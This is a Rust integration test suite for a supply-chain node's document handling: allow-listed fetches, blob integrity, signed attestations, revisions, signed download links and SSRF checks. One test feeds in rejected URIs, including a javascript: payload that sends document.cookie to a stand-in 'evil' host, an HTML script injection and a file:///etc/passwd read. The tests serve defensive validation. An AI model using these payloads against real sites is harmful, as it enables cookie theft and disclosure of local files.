//! Documents: blobs from `data:` URLs and allow-listed fetches, external references,
//! revisions, attestations and signed download links.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use axum::http::header;
use axum::response::IntoResponse;
use axum::routing::get;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use base64::Engine;
use reqwest::StatusCode;
use serde_json::{json, Value};
use sha2::{Digest, Sha256};

use crate::common::*;

const PDF: &[u8] = b"%PDF-1.4\n%test document\n1 0 obj <</Type/Catalog>> endobj\n%%EOF\n";

fn integrity(bytes: &[u8]) -> String {
    format!("sha256-{}", STANDARD.encode(Sha256::digest(bytes)))
}

/// A document server on loopback that counts the requests it gets.
struct Source {
    addr: SocketAddr,
    hits: Arc<AtomicUsize>,
}

impl Source {
    async fn start() -> Self {
        let hits = Arc::new(AtomicUsize::new(0));
        let counter = hits.clone();
        let app = axum::Router::new()
            .route(
                "/invoice.pdf",
                get(|| async { ([(header::CONTENT_TYPE, "application/pdf")], PDF) }),
            )
            .route("/big", get(|| async { vec![b'x'; 5000] }))
            .route(
                "/stream",
                get(|| async {
                    let chunks = (0..50).map(|_| Ok::<_, std::io::Error>(vec![b'y'; 100]));
                    axum::body::Body::from_stream(futures_util::stream::iter(chunks))
                }),
            )
            .route(
                "/elsewhere",
                get(|| async {
                    (
                        StatusCode::FOUND,
                        [(header::LOCATION, "http://192.0.2.1/secret.pdf")],
                    )
                        .into_response()
                }),
            )
            .route("/missing", get(|| async { StatusCode::NOT_FOUND }))
            .layer(axum::middleware::from_fn(
                move |req: axum::extract::Request, next: axum::middleware::Next| {
                    counter.fetch_add(1, Ordering::SeqCst);
                    next.run(req)
                },
            ));
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move { axum::serve(listener, app).await });
        Self { addr, hits }
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.addr)
    }

    fn hits(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }
}

async fn trader_with_consignment(node: &TestNode) -> Session {
    let trader = Session::new(node, "trader@forwarder.example").await;
    trader.publish_example(node, "create-consignment").await;
    trader
}

async fn document(node: &TestNode, who: &Session, id: &str) -> Value {
    ok_json(
        who.get(node, &format!("{LIST}/{IDENTIFIER}/documents/{id}"))
            .await,
    )
    .await
}

async fn download(node: &TestNode, href: &str) -> reqwest::Response {
    node.client.get(href).send().await.unwrap()
}

#[tokio::test]
async fn a_data_url_document_round_trips_with_integrity_and_attestation() {
    let node = TestNode::start().await;
    let trader = trader_with_consignment(&node).await;
    let entry = trader
        .publish(
            &node,
            &add_document(trader.org(), &data_url("application/pdf", PDF), "INV-1"),
        )
        .await;
    assert_completed(&entry);

    let doc = document(&node, &trader, "INV-1").await;
    assert_eq!(doc["documentId"], "INV-1");
    assert_eq!(doc["documentCode"], "380");
    assert_eq!(doc["documentType"], "Commercial invoice");
    assert_eq!(doc["documentRevision"], 0);
    assert_eq!(
        doc["metadata"],
        json!({"encodingFormat": "application/pdf", "blobSize": PDF.len(), "fileExtension": "pdf"})
    );
    assert_eq!(doc["history"], json!([]));
    let href = doc["href"].as_str().unwrap();
    let hex = hex::encode(Sha256::digest(PDF));
    assert!(
        href.starts_with(&node.url(&format!("/supply-chain/data-space/blobs/{hex}?"))),
        "{href}"
    );

    // Downloaded without a session: the same bytes, and they match the recorded integrity.
    let r = download(&node, href).await;
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(r.headers()["content-type"], "application/pdf");
    assert_eq!(
        r.headers()["content-length"],
        PDF.len().to_string().as_str()
    );
    assert_eq!(r.headers()["etag"], format!("\"{hex}\"").as_str());
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
    let bytes = r.bytes().await.unwrap();
    assert_eq!(&bytes[..], PDF);
    assert_eq!(doc["integrity"], integrity(&bytes).as_str());

    // The view's DocumentRecord has every field.
    let view = ok_json(trader.get(&node, &format!("{LIST}/{IDENTIFIER}")).await).await;
    let record = &view["documents"][0];
    assert_eq!(
        record["@context"],
        json!([
            "https://www.w3.org/ns/activitystreams",
            "https://vocabulary.uncefact.org/unece-context-D23B.jsonld",
            "https://w3id.org/dataspace-node/ns"
        ])
    );
    assert_eq!(record["type"], "Document");
    assert_eq!(record["id"], "INV-1");
    assert_eq!(record["documentRevision"], 0);
    assert_eq!(
        record["blobStorageId"],
        format!("blob:local:{hex}").as_str()
    );
    assert_eq!(record["integrity"], integrity(PDF).as_str());
    assert_eq!(record["organizationIdentity"], trader.org());
    assert!(record["userIdentity"]
        .as_str()
        .unwrap()
        .starts_with("did:web:"));
    assert!(record["dateCreated"].is_string() && record["dateModified"].is_string());
    assert!(record.get("dateDeleted").is_none());
    assert!(download(&node, record["href"].as_str().unwrap())
        .await
        .status()
        .is_success());

    // The attestation verifies against the node's public key, for exactly this document.
    let id = record["attestationId"].as_str().unwrap();
    assert_eq!(doc["attestationId"], id);
    let attestation = ok_json(attestation(&node, id).await).await;
    assert_eq!(attestation["documentId"], "INV-1");
    assert_eq!(attestation["documentRevision"], 0);
    assert_eq!(attestation["integrity"], integrity(&bytes).as_str());
    verify_jws(&attestation);

    // An attestation the node never issued.
    let r = node
        .client
        .get(node.url("/supply-chain/data-space/attestations/00000000000000000000000000000000"))
        .send()
        .await
        .unwrap();
    assert_error(r, StatusCode::NOT_FOUND, "GeneralError").await;
    // The graph names the blob instead of carrying the bytes (object, payload and activity).
    let dir = node.stop().await;
    let store = oxigraph::store::Store::open(dir.path().join("store")).unwrap();
    let encoded = STANDARD.encode(PDF);
    let mut uris = 0;
    for quad in store.iter() {
        let quad = quad.unwrap();
        if let oxigraph::model::Term::Literal(l) = &quad.object {
            assert!(!l.value().contains(&encoded), "{quad}");
        }
        if quad.predicate.as_str() == "https://vocabulary.uncefact.org/uRIId" {
            assert_eq!(quad.object.to_string(), format!("\"blob:local:{hex}\""));
            uris += 1;
        }
    }
    assert_eq!(uris, 1);
}

/// Checks the attestation's JWS with the public key it names, and that its claims are the
/// ones the attestation states.
fn verify_jws(attestation: &Value) {
    use ed25519_dalek::{Signature, Verifier, VerifyingKey};
    let jwk = &attestation["verificationMethod"]["publicKeyJwk"];
    assert_eq!(
        (jwk["kty"].as_str(), jwk["crv"].as_str()),
        (Some("OKP"), Some("Ed25519"))
    );
    let x: [u8; 32] = URL_SAFE_NO_PAD
        .decode(jwk["x"].as_str().unwrap())
        .unwrap()
        .try_into()
        .unwrap();
    let key = VerifyingKey::from_bytes(&x).unwrap();
    let jws = attestation["jws"].as_str().unwrap();
    let (input, signature) = jws.rsplit_once('.').unwrap();
    let signature = Signature::from_slice(&URL_SAFE_NO_PAD.decode(signature).unwrap()).unwrap();
    key.verify(input.as_bytes(), &signature)
        .expect("the attestation's signature verifies");
    let claims: Value = serde_json::from_slice(
        &URL_SAFE_NO_PAD
            .decode(input.split('.').nth(1).unwrap())
            .unwrap(),
    )
    .unwrap();
    for k in ["documentId", "documentRevision", "integrity"] {
        assert_eq!(claims[k], attestation[k], "{k}");
    }
}

#[tokio::test]
async fn an_allowed_host_is_fetched_and_any_other_stays_an_external_reference() {
    let source = Source::start().await;
    let allowed = source.addr.to_string();
    let node = TestNode::start_with(|c| c.fetch_allow = vec![allowed]).await;
    let trader = trader_with_consignment(&node).await;

    let url = source.url("/invoice.pdf");
    assert_completed(
        &trader
            .publish(&node, &add_document(trader.org(), &url, "FETCHED"))
            .await,
    );
    assert_eq!(source.hits(), 1);
    let doc = document(&node, &trader, "FETCHED").await;
    assert_eq!(doc["metadata"]["encodingFormat"], "application/pdf");
    assert_eq!(doc["metadata"]["blobSize"], PDF.len());
    assert_eq!(doc["integrity"], integrity(PDF).as_str());
    let bytes = download(&node, doc["href"].as_str().unwrap())
        .await
        .bytes()
        .await
        .unwrap();
    assert_eq!(&bytes[..], PDF);

    // Another port of the same host is not on the list: kept as a reference, never contacted.
    let other = Source::start().await;
    let external = other.url("/scan.pdf");
    assert_completed(
        &trader
            .publish(&node, &add_document(trader.org(), &external, "EXTERNAL"))
            .await,
    );
    assert_eq!(
        other.hits(),
        0,
        "a host off the allow-list is never contacted"
    );
    let doc = document(&node, &trader, "EXTERNAL").await;
    assert_eq!(doc["href"], external.as_str());
    assert_eq!(
        doc["metadata"],
        json!({"encodingFormat": "application/pdf", "fileExtension": "pdf"})
    );
    assert!(doc.get("integrity").is_none() && doc.get("attestationId").is_none());
    let view = ok_json(trader.get(&node, &format!("{LIST}/{IDENTIFIER}")).await).await;
    let record = view["documents"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["id"] == "EXTERNAL")
        .unwrap();
    assert_eq!(record["href"], external.as_str());
    assert!(record.get("blobStorageId").is_none());
    tokio::time::sleep(Duration::from_millis(50)).await;
    assert_eq!(other.hits(), 0, "reads do not contact it either");
}

#[tokio::test]
async fn a_node_without_an_allow_list_fetches_nothing() {
    let source = Source::start().await;
    let node = TestNode::start().await;
    let trader = trader_with_consignment(&node).await;
    let url = source.url("/invoice.pdf");
    assert_completed(
        &trader
            .publish(&node, &add_document(trader.org(), &url, "REF"))
            .await,
    );
    assert_eq!(source.hits(), 0);
    assert_eq!(document(&node, &trader, "REF").await["href"], url.as_str());
}

#[tokio::test]
async fn failed_or_oversized_fetches_fail_the_task_and_store_nothing() {
    let source = Source::start().await;
    let allowed = source.addr.to_string();
    let node = TestNode::start_with(|c| {
        c.fetch_allow = vec![allowed];
        c.document_max_bytes = 1000;
    })
    .await;
    let trader = trader_with_consignment(&node).await;
    let cases = [
        (
            source.url("/big"),
            "larger than the node's limit of 1000 bytes",
        ),
        (
            source.url("/stream"),
            "larger than the node's limit of 1000 bytes",
        ),
        (source.url("/missing"), "404"),
        (
            source.url("/elsewhere"),
            "not on the node's fetch allow-list",
        ),
        (
            data_url("text/plain", &[b'z'; 2000]),
            "larger than the node's limit of 1000 bytes",
        ),
        ("data:text/plain;base64,%%%".to_owned(), "base64"),
    ];
    for (i, (uri, expected)) in cases.iter().enumerate() {
        let entry = trader
            .publish(&node, &add_document(trader.org(), uri, &format!("BAD-{i}")))
            .await;
        let error = task_error(&entry);
        assert_eq!(
            error["message"],
            "dataspaceDataPlaneService.documentUnavailable"
        );
        let cause = error["cause"]["message"].as_str().unwrap();
        assert!(cause.contains(expected), "{uri}: {cause}");
        assert_eq!(entry["tasks"][0]["result"], 0);
    }
    let docs = ok_json(
        trader
            .get(&node, &format!("{LIST}/{IDENTIFIER}/documents"))
            .await,
    )
    .await;
    assert_eq!(
        docs["entities"],
        json!([]),
        "nothing of a failed document is stored"
    );
    let blobs = node.data_dir().join("blobs");
    let files = walk(&blobs.join("sha256")).len() + walk(&blobs.join("tmp")).len();
    assert_eq!(files, 0, "no blob, no temporary file left");

    // An unknown consignment fails without fetching anything.
    let before = source.hits();
    let mut doc = add_document(trader.org(), &source.url("/invoice.pdf"), "X");
    doc["target"]["globalId"] = json!("NOPE");
    let entry = trader.publish(&node, &doc).await;
    assert_eq!(task_error(&entry)["name"], "NotFoundError");
    assert_eq!(source.hits(), before);
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            out.extend(walk(&path));
        } else {
            out.push(path);
        }
    }
    out
}

#[tokio::test]
async fn new_content_makes_a_revision_and_the_same_content_changes_nothing() {
    let node = TestNode::start().await;
    let trader = trader_with_consignment(&node).await;
    let first = data_url("application/pdf", PDF);
    let second_bytes = b"%PDF-1.4\n%revised\n%%EOF\n";
    let second = data_url("application/pdf", second_bytes);
    assert_completed(
        &trader
            .publish(&node, &add_document(trader.org(), &first, "INV-9"))
            .await,
    );
    let rev0 = document(&node, &trader, "INV-9").await;

    // The same content again, in another activity (target named by identifier): nothing new.
    let mut again = add_document(trader.org(), &first, "INV-9");
    again["target"]["globalId"] = json!(IDENTIFIER);
    let entry = trader.publish(&node, &again).await;
    assert_completed(&entry);
    assert_eq!(entry["tasks"][0]["result"], 0);
    let same = document(&node, &trader, "INV-9").await;
    assert_eq!(same["documentRevision"], 0);
    assert_eq!(same["id"], rev0["id"]);

    assert_completed(
        &trader
            .publish(&node, &add_document(trader.org(), &second, "INV-9"))
            .await,
    );
    let rev1 = document(&node, &trader, "INV-9").await;
    assert_eq!(rev1["documentRevision"], 1);
    assert_eq!(rev1["integrity"], integrity(second_bytes).as_str());
    assert_ne!(rev1["attestationId"], rev0["attestationId"]);
    let history = rev1["history"].as_array().unwrap();
    assert_eq!(history.len(), 1);
    assert_eq!(history[0]["id"], rev0["id"]);
    assert_eq!(history[0]["documentRevision"], 0);
    // Nothing is deleted: the earlier revision still downloads.
    let old = download(&node, history[0]["href"].as_str().unwrap()).await;
    assert_eq!(&old.bytes().await.unwrap()[..], PDF);

    // Back to the first bytes (spelled as a percent-encoded data: URL, so another activity):
    // revision 2, history 0 and 1.
    let encoded = percent_encoding::percent_encode(PDF, percent_encoding::NON_ALPHANUMERIC);
    let first_again = format!("data:application/pdf,{encoded}");
    assert_completed(
        &trader
            .publish(&node, &add_document(trader.org(), &first_again, "INV-9"))
            .await,
    );
    let rev2 = document(&node, &trader, "INV-9").await;
    assert_eq!(rev2["documentRevision"], 2);
    assert_eq!(rev2["integrity"], rev0["integrity"]);
    let revisions: Vec<&Value> = rev2["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| &h["documentRevision"])
        .collect();
    assert_eq!(revisions, vec![&json!(0), &json!(1)]);

    // Lists hold the current revision once; the view's record is revision 2, created at 0.
    let listed = ok_json(
        trader
            .get(&node, &format!("{LIST}/{IDENTIFIER}/documents"))
            .await,
    )
    .await;
    assert_eq!(listed["entities"].as_array().unwrap().len(), 1);
    assert_eq!(listed["entities"][0]["documentRevision"], 2);
    let global = ok_json(
        trader
            .get(&node, "/supply-chain/data-space/documents")
            .await,
    )
    .await;
    assert_eq!(global["entities"].as_array().unwrap().len(), 1);
    assert_eq!(global["entities"][0]["documentRevision"], 2);
    let found = ok_json(
        trader
            .get(&node, "/supply-chain/data-space/documents/INV-9")
            .await,
    )
    .await;
    assert_eq!(found["documentRevision"], 2);
    let view = ok_json(trader.get(&node, &format!("{LIST}/{IDENTIFIER}")).await).await;
    let records = view["documents"].as_array().unwrap();
    assert_eq!(records.len(), 1);
    assert_eq!(records[0]["documentRevision"], 2);
    assert_ne!(records[0]["dateCreated"], records[0]["dateModified"]);
}

#[tokio::test]
async fn signed_links_are_checked_and_serve_ranges() {
    let node = TestNode::start().await;
    let trader = trader_with_consignment(&node).await;
    let other_bytes = b"another document";
    for (id, bytes) in [("A", PDF), ("B", &other_bytes[..])] {
        let doc = add_document(trader.org(), &data_url("application/pdf", bytes), id);
        assert_completed(&trader.publish(&node, &doc).await);
    }
    let a = document(&node, &trader, "A").await;
    let b = document(&node, &trader, "B").await;
    let href = a["href"].as_str().unwrap().to_owned();
    assert_eq!(download(&node, &href).await.status(), StatusCode::OK);

    let mut url = url::Url::parse(&href).unwrap();
    let params: Vec<(String, String)> = url.query_pairs().into_owned().collect();
    let with = |changes: &[(&str, &str)]| {
        let mut u = url.clone();
        u.query_pairs_mut().clear();
        for (k, v) in &params {
            let v = changes
                .iter()
                .find(|(n, _)| n == k)
                .map_or(v.as_str(), |(_, nv)| nv);
            u.query_pairs_mut().append_pair(k, v);
        }
        u.to_string()
    };
    let expires: u64 = params
        .iter()
        .find(|(k, _)| k == "expires")
        .unwrap()
        .1
        .parse()
        .unwrap();
    let refused = [
        with(&[("signature", "AAAA")]),
        with(&[("expires", &(expires + 3600).to_string())]),
        with(&[("type", "text/html")]),
        url.as_str().split('?').next().unwrap().to_owned(),
    ];
    for bad in &refused {
        let r = download(&node, bad).await;
        assert_error(r, StatusCode::FORBIDDEN, "GeneralError").await;
    }
    // A's signature on B's blob.
    let b_hex = b["href"]
        .as_str()
        .unwrap()
        .split('?')
        .next()
        .unwrap()
        .rsplit('/')
        .next()
        .unwrap()
        .to_owned();
    let a_hex = url.path().rsplit('/').next().unwrap().to_owned();
    url.set_path(&url.path().replace(&a_hex, &b_hex));
    assert_error(
        download(&node, url.as_str()).await,
        StatusCode::FORBIDDEN,
        "GeneralError",
    )
    .await;

    // Ranges.
    let get = |range: &'static str| {
        let client = node.client.clone();
        let href = href.clone();
        async move {
            client
                .get(href)
                .header("range", range)
                .send()
                .await
                .unwrap()
        }
    };
    let r = get("bytes=0-7").await;
    assert_eq!(r.status(), StatusCode::PARTIAL_CONTENT);
    assert_eq!(
        r.headers()["content-range"],
        format!("bytes 0-7/{}", PDF.len()).as_str()
    );
    assert_eq!(r.headers()["content-length"], "8");
    assert_eq!(&r.bytes().await.unwrap()[..], &PDF[..8]);
    let r = get("bytes=-6").await;
    assert_eq!(&r.bytes().await.unwrap()[..], &PDF[PDF.len() - 6..]);
    let r = get("bytes=9999-").await;
    assert_eq!(r.status(), StatusCode::RANGE_NOT_SATISFIABLE);
    assert_eq!(
        r.headers()["content-range"],
        format!("bytes */{}", PDF.len()).as_str()
    );
    let etag = download(&node, &href).await.headers()["etag"].clone();
    let r = node
        .client
        .get(&href)
        .header("if-none-match", etag)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::NOT_MODIFIED);
}

#[tokio::test]
async fn expired_links_are_refused_and_links_survive_a_restart() {
    let node = TestNode::start_with(|c| {
        c.link_ttl_secs = 1;
        c.list_link_ttl_secs = 1;
    })
    .await;
    let trader = trader_with_consignment(&node).await;
    let doc = add_document(trader.org(), &data_url("application/pdf", PDF), "INV-T");
    assert_completed(&trader.publish(&node, &doc).await);
    let before = document(&node, &trader, "INV-T").await;
    let href = before["href"].as_str().unwrap().to_owned();
    assert_eq!(download(&node, &href).await.status(), StatusCode::OK);
    tokio::time::sleep(Duration::from_millis(2100)).await;
    let body = assert_error(
        download(&node, &href).await,
        StatusCode::FORBIDDEN,
        "GeneralError",
    )
    .await;
    assert!(
        body["message"].as_str().unwrap().contains("expired"),
        "{body}"
    );

    // After a restart the blob, its attestation and the link key are still there.
    let node = node.restart().await;
    let trader = trader.logged_in_again(&node).await;
    let after = document(&node, &trader, "INV-T").await;
    assert_eq!(after["attestationId"], before["attestationId"]);
    let r = download(&node, after["href"].as_str().unwrap()).await;
    assert_eq!(&r.bytes().await.unwrap()[..], PDF);
    let attestation = ok_json(
        node.client
            .get(node.url(&format!(
                "/supply-chain/data-space/attestations/{}",
                after["attestationId"].as_str().unwrap()
            )))
            .send()
            .await
            .unwrap(),
    )
    .await;
    verify_jws(&attestation);
}

#[tokio::test]
async fn another_member_of_the_circle_cannot_replace_the_publishers_document() {
    let node = TestNode::start().await;
    let operator = Operator::new(&node).await;
    let agency = Session::new(&node, "officer@kra.example").await;
    let forwarder = Session::new(&node, "ops@other-forwarder.example").await;
    for who in [&agency, &forwarder] {
        let policy = rule(&node, who.org(), "portOfEntryCountry", "eq", json!("KE"));
        operator.policy(&node, policy).await;
    }
    let trader = trader_with_consignment(&node).await;
    let real = data_url("text/plain", b"REAL-INVOICE");
    assert_completed(
        &trader
            .publish(&node, &add_document(trader.org(), &real, "INV-1"))
            .await,
    );
    // Added after the publisher's, under the same documentId, by a member of the circle.
    let fake = data_url("text/plain", b"FAKE-INVOICE");
    let entry = forwarder
        .publish(&node, &add_document(forwarder.org(), &fake, "INV-1"))
        .await;
    assert_completed(&entry);
    // The agency reads the publisher's, by every way in.
    let doc = document(&node, &agency, "INV-1").await;
    assert_eq!(content(&node, &doc).await, b"REAL-INVOICE");
    let found = ok_json(
        agency
            .get(&node, "/supply-chain/data-space/documents/INV-1")
            .await,
    )
    .await;
    assert_eq!(content(&node, &found).await, b"REAL-INVOICE");
    let list = ok_json(
        agency
            .get(&node, &format!("{LIST}/{IDENTIFIER}/documents"))
            .await,
    )
    .await;
    let entities = list["entities"].as_array().unwrap();
    assert_eq!(entities.len(), 1, "{list:#}");
    assert_eq!(content(&node, &entities[0]).await, b"REAL-INVOICE");
    // The forwarder still reads its own copy.
    let own = document(&node, &forwarder, "INV-1").await;
    assert_eq!(content(&node, &own).await, b"FAKE-INVOICE");
}

/// The bytes a DocumentAttachment's `href` serves.
async fn content(node: &TestNode, doc: &Value) -> Vec<u8> {
    let href = doc["href"].as_str().unwrap();
    download(node, href).await.bytes().await.unwrap().to_vec()
}

/// The spec's Document table requires none of its fields: a document without `uRIId` is its
/// metadata (no content, link, integrity or attestation), one without `identifier` is read by
/// the id the node gives it, and content sent later under the same identifier is a revision.
#[tokio::test]
async fn documents_without_content_or_identifier_are_kept_and_read() {
    let node = TestNode::start().await;
    let (_operator, trader, agency, _) = kenya_circle_with_policy(&node).await;
    trader.publish_example(&node, "create-consignment").await;
    let mut certificate = add_document(trader.org(), "", "COO-7");
    let object = certificate["object"].as_object_mut().unwrap();
    object.remove("uRIId");
    object.insert(
        "documentTypeCode".into(),
        json!("unece:DocumentCodeList#861"),
    );
    assert_completed(&trader.publish(&node, &certificate).await);
    let doc = document(&node, &trader, "COO-7").await;
    assert_eq!(doc["documentId"], "COO-7");
    assert_eq!(doc["documentCode"], "861");
    assert_eq!(doc["documentRevision"], 0);
    assert_eq!(doc["metadata"], json!({}));
    for absent in ["href", "integrity", "attestationId"] {
        assert!(doc.get(absent).is_none(), "{absent}: {doc:#}");
    }

    // Sent again (another activity, the target named by identifier): nothing new.
    let mut again = certificate.clone();
    again["target"]["globalId"] = json!(IDENTIFIER);
    let entry = trader.publish(&node, &again).await;
    assert_completed(&entry);
    assert_eq!(entry["tasks"][0]["result"], 0);

    // The file arrives later under the same identifier: revision 1, attested; the history's
    // revision 0 has no link.
    let mut with_file = certificate.clone();
    with_file["object"]["uRIId"] = json!(data_url("application/pdf", PDF));
    assert_completed(&trader.publish(&node, &with_file).await);
    let rev1 = document(&node, &trader, "COO-7").await;
    assert_eq!(rev1["documentRevision"], 1);
    assert_eq!(rev1["integrity"], integrity(PDF).as_str());
    assert!(rev1["attestationId"].is_string());
    assert_eq!(
        rev1["history"],
        json!([{"id": doc["id"], "documentRevision": 0}])
    );

    // Without an identifier, twice: two documents, each read by the id the node gave it.
    let mut anonymous = certificate.clone();
    anonymous["object"]
        .as_object_mut()
        .unwrap()
        .remove("identifier");
    assert_completed(&trader.publish(&node, &anonymous).await);
    let mut anonymous_file = anonymous.clone();
    anonymous_file["object"]["uRIId"] = json!(data_url("text/plain", b"second"));
    assert_completed(&trader.publish(&node, &anonymous_file).await);
    let listed = ok_json(
        trader
            .get(&node, &format!("{LIST}/{IDENTIFIER}/documents"))
            .await,
    )
    .await;
    let entities = listed["entities"].as_array().unwrap();
    assert_eq!(entities.len(), 3, "{listed:#}");
    let minted: Vec<&Value> = entities
        .iter()
        .filter(|d| d["documentId"] != "COO-7")
        .collect();
    assert_eq!(minted.len(), 2);
    assert_ne!(minted[0]["documentId"], minted[1]["documentId"]);
    for d in &minted {
        let id = d["documentId"].as_str().unwrap();
        assert_eq!(d["documentId"], d["id"], "read by its node's IRI: {d:#}");
        // By the publisher and by the agency the consignment is shared with.
        for who in [&trader, &agency] {
            let found = ok_json(
                who.get(
                    &node,
                    &format!("/supply-chain/data-space/documents/{}", percent_encoded(id)),
                )
                .await,
            )
            .await;
            assert_eq!(found["documentId"], id);
            assert_eq!(found["id"], d["id"]);
            assert_eq!(found.get("href").is_some(), d.get("integrity").is_some());
        }
    }
    // A document sent with an identifier is not found by its node's IRI, and no document may
    // take another's node IRI as its identifier.
    let named = entities
        .iter()
        .find(|d| d["documentId"] == "COO-7")
        .unwrap();
    let iri = named["id"].as_str().unwrap();
    for who in [&trader, &agency] {
        let path = format!(
            "/supply-chain/data-space/documents/{}",
            percent_encoded(iri)
        );
        assert_error(
            who.get(&node, &path).await,
            StatusCode::NOT_FOUND,
            "GeneralError",
        )
        .await;
    }
    let mut squat = certificate.clone();
    squat["object"]["identifier"] = minted[0]["id"].clone();
    let error = task_error(&trader.publish(&node, &squat).await).to_string();
    assert!(error.contains("not a node id"), "{error}");
    // Values the shape would take but the node could not read as sent fail the task instead
    // of being taken for no content or no identifier.
    let mut compact = certificate.clone();
    let object = compact["object"].as_object_mut().unwrap();
    object.insert("unece:uRIId".into(), json!(data_url("text/plain", b"x")));
    let error = task_error(&trader.publish(&node, &compact).await).to_string();
    assert!(error.contains("object.uRIId"), "{error}");
    let odd_values = [
        ("uRIId", json!([data_url("text/plain", b"x")])),
        ("identifier", json!(42)),
    ];
    for (key, value) in odd_values {
        let mut odd = certificate.clone();
        odd["object"][key] = value;
        let error = task_error(&trader.publish(&node, &odd).await).to_string();
        assert!(error.contains(&format!("object.{key}")), "{key}: {error}");
    }
    let with_content = minted.iter().find(|d| d.get("href").is_some()).unwrap();
    let r = download(&node, with_content["href"].as_str().unwrap()).await;
    assert_eq!(&r.bytes().await.unwrap()[..], b"second");

    // The view's records: no link for the document without content.
    let view = ok_json(trader.get(&node, &format!("{LIST}/{IDENTIFIER}")).await).await;
    let records = view["documents"].as_array().unwrap();
    assert_eq!(records.len(), 3);
    assert_eq!(
        records.iter().filter(|r| r.get("href").is_none()).count(),
        1,
        "{records:#?}"
    );
}

/// Only a `data:` URL or a web link is a document's content: anything else (a script URL, a
/// URL the parser would trim into another one) fails the task and is never handed to readers
/// as an `href`.
#[tokio::test]
async fn a_uri_that_is_not_a_web_link_fails_the_task() {
    let node = TestNode::start().await;
    let trader = trader_with_consignment(&node).await;
    for uri in [
        "javascript:fetch('//evil/'+document.cookie)//invoice.pdf",
        " data:text/html,<script>alert(1)</script>",
        " https://example.com/x.pdf",
        "https://example.com/x.pdf\n",
        "file:///etc/passwd",
    ] {
        let entry = trader
            .publish(&node, &add_document(trader.org(), uri, "INV-X"))
            .await;
        task_error(&entry);
    }
    let listed = ok_json(
        trader
            .get(&node, &format!("{LIST}/{IDENTIFIER}/documents"))
            .await,
    )
    .await;
    assert_eq!(listed["entities"], json!([]), "{listed:#}");
}

/// A listed name that resolves to the node's own host (or a private network) is not fetched
/// from: a caller's domain on the allow-list could point at the replica or another internal
/// service. The address itself listed is fetched from (the other tests list `127.0.0.1:port`).
#[tokio::test]
async fn a_listed_name_resolving_to_loopback_is_not_fetched_from() {
    let source = Source::start().await;
    let allowed = format!("localhost:{}", source.addr.port());
    let node = TestNode::start_with(|c| c.fetch_allow = vec![allowed]).await;
    let trader = trader_with_consignment(&node).await;
    let url = format!("http://localhost:{}/invoice.pdf", source.addr.port());
    let entry = trader
        .publish(&node, &add_document(trader.org(), &url, "INV-L"))
        .await;
    let error = task_error(&entry).to_string();
    assert!(error.contains("loopback"), "{error}");
    assert_eq!(source.hits(), 0);
}
